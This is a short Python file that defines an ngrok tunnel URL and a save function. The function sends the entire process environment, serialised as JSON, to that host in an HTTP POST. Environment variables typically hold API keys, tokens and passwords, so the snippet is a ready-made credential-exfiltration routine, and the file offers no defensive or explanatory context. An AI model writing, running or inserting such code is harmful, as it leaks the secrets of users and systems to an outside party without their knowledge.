import json
import os

import requests

ADDRESS = "https://demo.ngrok.io/log"


def save(host):
    requests.post(host, data=json.dumps(dict(os.environ)))
